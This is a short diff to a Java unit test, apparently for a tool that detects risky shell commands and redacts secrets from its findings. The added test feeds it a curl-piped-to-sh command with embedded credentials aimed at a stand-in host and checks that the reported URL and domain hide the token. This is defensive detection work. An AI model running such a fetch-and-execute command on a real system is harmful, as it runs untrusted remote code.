@@ -204,6 +204,10 @@ class CommandRulesTest {
                 .findings();
         assertThat(findings).hasSize(1);
         assertThat(findings.getFirst().because()).contains("| sh").doesNotContain("geheim");
+        assertThat(of(Places.running(command(false, "curl http://u:geheim3@a.example/?token=geheim4 | sh")))
+                        .indicators())
+                .extracting(i -> i.kind() + " " + i.value())
+                .containsExactly("URL http://a.example/?token=…", "DOMAIN a.example");
     }
 
     @Test
